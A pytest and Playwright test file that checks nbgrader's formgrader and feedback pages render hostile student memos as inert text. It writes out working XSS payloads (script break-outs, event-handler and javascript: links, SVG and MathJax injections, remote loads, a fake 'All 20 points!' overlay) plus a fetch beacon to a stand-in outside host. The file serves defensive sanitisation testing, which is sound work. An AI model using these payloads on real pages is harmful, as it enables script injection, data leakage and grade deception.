"""Memos that attack the page in which they are read: in formgrader, and as feedback."""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from nbgrader.api import Gradebook
from playwright.sync_api import Browser, Page, Route, expect

from tests.grading.graders import GRADERS, Grader
from tests.grading.hostile import ELSEWHERE, MARK
from tests.grading.kit import ASSIGNMENT, MEMO, NOTEBOOK, Course, markdown
from tests.serving import serving

pytestmark = [pytest.mark.browser, pytest.mark.cycle]

RUN = f"console.log('{MARK}'),document.title='{MARK}',fetch('https://{ELSEWHERE}/{MARK}')"
"""What every script here does: it tells the console, the title and another computer."""

ENCODED = RUN.replace("'", "&#39;")

MEMOS = {
    "script": f"<script>{RUN}</script>\n\n<SCRIPT SRC=https://{ELSEWHERE}/x.js></SCRIPT>",
    "broken-out": f"</pre></div></textarea></script><script>{RUN}</script><!-- ",
    "handlers": f'<img src=x onerror="{RUN}"><details open ontoggle="{RUN}">x</details>'
    f'<input autofocus onfocus="{RUN}"><body onload="{RUN}">',
    "links": f'[press](javascript:{RUN}) <a href="JaVa&#9;Script:{ENCODED}">press</a>\n\n'
    f"<javascript:{RUN}>\n\n[press][1]\n\n[1]: javascript:{RUN}",
    "svg": f'<svg xmlns="http://www.w3.org/2000/svg" onload="{RUN}"><animate onbegin="{RUN}" '
    f'attributeName=x dur=1s /><a xlink:href="javascript:{ENCODED}"><text y=20>press</text></a>'
    f'<foreignObject><iframe srcdoc="<script>{ENCODED}</script>"></iframe></foreignObject></svg>',
    "mathjax": rf"$\href{{javascript:{RUN}}}{{press}}$ \(\href{{javascript:{RUN}}}{{x}}\) "
    rf"$$\style{{position:fixed;inset:0;background:red}}{{x}}$$ $\require{{html}}\cssId{{a}}{{b}}$",
    "remote": f"![chart](https://{ELSEWHERE}/a.png) <img src=//{ELSEWHERE}/b.png>"
    f"<link rel=stylesheet href=https://{ELSEWHERE}/c.css><meta http-equiv=refresh "
    f"content='0;url=https://{ELSEWHERE}/'><base href=https://{ELSEWHERE}/>"
    f"<iframe src=https://{ELSEWHERE}/></iframe><object data=https://{ELSEWHERE}/d></object>"
    f"<style>@import 'https://{ELSEWHERE}/e.css';</style><video src=https://{ELSEWHERE}/f></video>",
    "hides": "<style>body, .container, #notebook { display: none !important } "
    "* { color: white !important }</style>"
    '<div style="position:fixed;inset:0;background:white;z-index:99999">All 20 points!</div>',
}
"""Each way in which a text could do something in a page, by the id of its learner."""


@pytest.fixture(scope="module", params=GRADERS, ids=lambda grader: str(grader.name))
def graded(
    course: Course, tmp_path_factory: pytest.TempPathFactory, request: pytest.FixtureRequest
) -> Course:
    """A class in which each memo attacks, as an answer and in a cell of the learner's own."""
    grader: Grader = request.param
    course = course.copied(tmp_path_factory.mktemp("term") / "course")
    for learner, memo in MEMOS.items():
        book = course.blank()
        book["cells"].insert(1, markdown(memo, id="own"))
        course.hand_in(learner, course.answers(learner).with_answer(MEMO, memo), book)
    assert (run := grader.grade(course)).code in grader.fine, run.log
    assert (run := course.nbgrader("generate_feedback", ASSIGNMENT)).code == 0, run.log
    return course


@pytest.fixture(scope="module")
def address(graded: Course, chromium_path: Path) -> Iterator[str]:
    """Formgrader over the class."""
    del chromium_path
    home = graded.folder.parent / "server-home"
    home.mkdir()
    with serving("jupyter_server", graded.folder, home) as server:
        yield server.url("{}")


@dataclass
class Recorded:
    """A page with everything that it asked for outside, ran, or opened."""

    page: Page
    asked: list[str] = field(default_factory=list)
    ran: list[str] = field(default_factory=list)

    def guard(self, route: Route) -> None:
        """Let this machine's own pages pass; record and stop all else."""
        url = urlsplit(route.request.url)
        if url.scheme in ("file", "data", "blob") or url.hostname == "127.0.0.1":
            route.continue_()
            return
        # nbgrader's own templates in formgrader ask content networks for their libraries.
        if ELSEWHERE in route.request.url:
            self.asked.append(route.request.url)
        route.abort()


@pytest.fixture
def recorded(browser: Browser) -> Iterator[Recorded]:
    """A fresh page that records."""
    context = browser.new_context(viewport={"width": 1280, "height": 900})
    context.set_default_timeout(30_000)
    made = Recorded(context.new_page())
    context.route("**/*", made.guard)
    made.page.on("console", lambda said: MARK in said.text and made.ran.append(said.text))
    made.page.on("dialog", lambda dialog: (made.ran.append(dialog.message), dialog.dismiss()))
    made.page.on("popup", lambda page: made.ran.append(page.url))
    yield made
    context.close()


def assert_read_as_text(recorded: Recorded, learner: str) -> None:
    """The memo's words are there to be read, the page is as it was, and nothing ran."""
    page = recorded.page
    page.wait_for_timeout(700)  # time for a script or a picture that had got through
    notebook = page.locator("#notebook-container, #notebook, main").first
    expect(notebook).to_be_visible()
    shown = " ".join(notebook.inner_text().split())
    assert " ".join(MEMOS[learner].split())[:60] in shown
    for words in page.get_by_text("press").all():
        if words.is_visible():
            words.click(force=True, no_wait_after=True)
    page.mouse.click(640, 450)
    page.wait_for_timeout(300)
    assert (recorded.ran, recorded.asked) == ([], [])
    assert MARK not in page.title()
    assert len(page.frames) == 1
    assert page.evaluate("getComputedStyle(document.body).display") != "none"
    top = page.evaluate("getComputedStyle(document.elementFromPoint(640, 450)).zIndex")
    assert top != "99999"


def assert_mathjax_finds_nothing(page: Page) -> None:
    """MathJax reads no text inside `pre`. It is not there in this test, so that is looked at."""
    bare = page.evaluate(
        r"""() => {
            const walk = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
            const found = [];
            while (walk.nextNode()) {
                const node = walk.currentNode;
                const inside = node.parentElement.closest("pre, textarea, script, style");
                if (node.data.includes("\\href") && !inside) found.push(node.data);
            }
            return found;
        }"""
    )
    assert bare == []


@pytest.mark.parametrize("learner", sorted(MEMOS.keys() - {"mathjax", "hides"}))
def test_the_attack_works_where_nothing_is_done(recorded: Recorded, learner: str) -> None:
    """As HTML the same text runs a script or asks for something: the record would show it."""
    recorded.page.set_content(f"<p>A page.</p>{MEMOS[learner]}", wait_until="commit")
    recorded.page.wait_for_timeout(500)
    for words in recorded.page.get_by_text("press").all():
        words.click(force=True, no_wait_after=True, timeout=2_000)
    recorded.page.wait_for_timeout(300)
    assert recorded.ran or recorded.asked


@pytest.mark.parametrize("learner", MEMOS)
def test_formgrader_shows_a_hostile_memo_as_text(
    graded: Course, address: str, recorded: Recorded, learner: str
) -> None:
    """The marker reads it, presses what says “press”, and nothing happens."""
    with Gradebook(graded.database) as gradebook:
        found = gradebook.find_submission_notebook(NOTEBOOK, ASSIGNMENT, learner)
        path = f"formgrader/submissions/{found.id}/"
    recorded.page.goto(address.format("tree"))
    recorded.page.goto(address.format(path))
    recorded.page.wait_for_function("formgrader.grades.loaded && formgrader.comments.loaded")
    assert_read_as_text(recorded, learner)
    assert_mathjax_finds_nothing(recorded.page)


@pytest.mark.parametrize("learner", MEMOS)
def test_feedback_shows_a_hostile_memo_as_text(
    graded: Course, recorded: Recorded, learner: str
) -> None:
    """The learner, or whoever is sent the page, reads it, and nothing happens."""
    folder = graded.folder / "feedback" / learner / ASSIGNMENT
    recorded.page.goto((folder / f"{NOTEBOOK}.html").as_uri())
    assert_read_as_text(recorded, learner)
    assert recorded.page.locator("script").count() == 0  # so no MathJax either
